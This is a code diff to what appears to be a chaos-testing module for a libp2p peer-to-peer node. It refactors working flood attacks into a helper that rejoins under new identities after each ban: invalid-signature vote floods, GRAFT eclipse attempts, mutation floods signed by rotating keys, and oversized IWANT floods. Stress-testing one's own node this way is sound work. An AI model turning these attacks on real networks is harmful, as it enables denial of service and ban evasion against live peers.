@@ -21,7 +21,7 @@ from libp2p.identity_utils import create_identity_from_seed
 from libp2p.peer.id import ID
 from libp2p.pubsub.pb import rpc_pb2
 
-from p2pnode.chaos.raw import attacker, publish
+from p2pnode.chaos.raw import Attacker, attacker, publish
 from p2pnode.net import PeerRecord, Topic, encode_record, topic_name
 from p2pnode.wire.codec import MutationMsg, encode
 
@@ -57,25 +57,40 @@ RAW_SOCKETS = 255
 IWANTS_PER_RPC = 50_000
 
 
-async def bad_signatures(target: Target, addr: str, count: Counter[str]) -> None:
-    """Votes whose signature does not verify, at BAD_SIGNATURE_RATE; a new identity each time
-    the peer drops the connection."""
-    topic = target.topic(Topic.VOTES)
-    interval = SIGNED_PAYLOAD / BAD_SIGNATURE_RATE
+async def _under_new_names(
+    target: Target,
+    addr: str,
+    topics: list[str],
+    count: Counter[str],
+    flood: Callable[[Attacker, str], Awaitable[None]],
+    pause: float = 0.05,
+) -> None:
+    """Run `flood` from a fresh identity joined to `addr`'s `topics` until the attack ends;
+    whenever the peer drops it (a ban, a refused seat), again under a new name."""
     while trio.current_time() < target.until:
         count["identities"] += 1
         try:
             async with attacker() as evil:
-                victim = await evil.connect([addr], [topic])
-                while trio.current_time() < target.until:
-                    msg = evil.message(topic, os.urandom(SIGNED_PAYLOAD))
-                    msg.signature = os.urandom(64)
-                    await evil.send(victim, publish(msg))
-                    count["messages"] += 1
-                    await trio.sleep(interval)
+                await flood(evil, await evil.connect([addr], topics))
         except Exception:
             count["dropped"] += 1
-            await trio.sleep(0.05)
+            await trio.sleep(pause)
+
+
+async def bad_signatures(target: Target, addr: str, count: Counter[str]) -> None:
+    """Votes whose signature does not verify, at BAD_SIGNATURE_RATE."""
+    topic = target.topic(Topic.VOTES)
+    interval = SIGNED_PAYLOAD / BAD_SIGNATURE_RATE
+
+    async def flood(evil: Attacker, victim: str) -> None:
+        while trio.current_time() < target.until:
+            msg = evil.message(topic, os.urandom(SIGNED_PAYLOAD))
+            msg.signature = os.urandom(64)
+            await evil.send(victim, publish(msg))
+            count["messages"] += 1
+            await trio.sleep(interval)
+
+    await _under_new_names(target, addr, [topic], count, flood)
 
 
 async def graft_eclipse(target: Target, addr: str, count: Counter[str]) -> None:
@@ -86,51 +101,37 @@ async def graft_eclipse(target: Target, addr: str, count: Counter[str]) -> None:
         control=rpc_pb2.ControlMessage(graft=[rpc_pb2.ControlGraft(topicID=t) for t in topics])
     )
 
-    async def one() -> None:
+    async def flood(evil: Attacker, victim: str) -> None:
         while trio.current_time() < target.until:
-            count["identities"] += 1
-            try:
-                async with attacker() as evil:
-                    victim = await evil.connect([addr], topics)
-                    while trio.current_time() < target.until:
-                        await evil.send(victim, grafts)
-                        count["grafts"] += len(topics)
-                        await trio.sleep(1)
-            except Exception:
-                count["dropped"] += 1
-                await trio.sleep(1)
+            await evil.send(victim, grafts)
+            count["grafts"] += len(topics)
+            await trio.sleep(1)
 
     async with trio.open_nursery() as nursery:
         for _ in range(ECLIPSE_IDENTITIES):
-            nursery.start_soon(one)
+            nursery.start_soon(_under_new_names, target, addr, topics, count, flood, 1.0)
 
 
 async def mutation_flood(target: Target, addr: str, count: Counter[str]) -> None:
-    """One connection publishing batches of mutations, each batch signed by the next of
-    MUTATION_ORIGINS origin keys, as fast as the peer reads them."""
+    """Batches of mutations, each signed by the next of MUTATION_ORIGINS origin keys, as fast
+    as the peer reads them."""
     topic = target.topic(Topic.MUTATIONS)
     origins = [
         create_identity_from_seed(hashlib.sha256(b"origin %d" % i).digest())
         for i in range(MUTATION_ORIGINS)
     ]
-    turn = 0
-    while trio.current_time() < target.until:
-        count["identities"] += 1
-        try:
-            async with attacker() as evil:
-                victim = await evil.connect([addr], [topic])
-                while trio.current_time() < target.until:
-                    batch = tuple(os.urandom(MUTATION_SIZE) for _ in range(MUTATIONS_PER_MESSAGE))
-                    keys = origins[turn % len(origins)]
-                    turn += 1
-                    data = encode(MutationMsg(batch))
-                    await evil.send(victim, publish(evil.message(topic, data, signer=keys)))
-                    count["messages"] += 1
-                    count["mutations"] += len(batch)
-                    await trio.lowlevel.checkpoint()
-        except Exception:
-            count["dropped"] += 1
-            await trio.sleep(0.05)
+
+    async def flood(evil: Attacker, victim: str) -> None:
+        while trio.current_time() < target.until:
+            batch = tuple(os.urandom(MUTATION_SIZE) for _ in range(MUTATIONS_PER_MESSAGE))
+            keys = origins[count["messages"] % len(origins)]
+            data = encode(MutationMsg(batch))
+            await evil.send(victim, publish(evil.message(topic, data, signer=keys)))
+            count["messages"] += 1
+            count["mutations"] += len(batch)
+            await trio.lowlevel.checkpoint()
+
+    await _under_new_names(target, addr, [topic], count, flood)
 
 
 async def iwant_flood(target: Target, addr: str, count: Counter[str]) -> None:
@@ -138,19 +139,14 @@ async def iwant_flood(target: Target, addr: str, count: Counter[str]) -> None:
     empty = rpc_pb2.RPC(
         control=rpc_pb2.ControlMessage(iwant=[rpc_pb2.ControlIWant()] * IWANTS_PER_RPC)
     )
-    topic = target.topic(Topic.VOTES)
-    while trio.current_time() < target.until:
-        count["identities"] += 1
-        try:
-            async with attacker() as evil:
-                victim = await evil.connect([addr], [topic])
-                while trio.current_time() < target.until:
-                    await evil.send(victim, empty)
-                    count["rpcs"] += 1
-                    await trio.sleep(1)
-        except Exception:
-            count["dropped"] += 1
-            await trio.sleep(0.05)
+
+    async def flood(evil: Attacker, victim: str) -> None:
+        while trio.current_time() < target.until:
+            await evil.send(victim, empty)
+            count["rpcs"] += 1
+            await trio.sleep(1)
+
+    await _under_new_names(target, addr, [target.topic(Topic.VOTES)], count, flood)
 
 
 async def made_up_peers(target: Target, addr: str, count: Counter[str]) -> None:
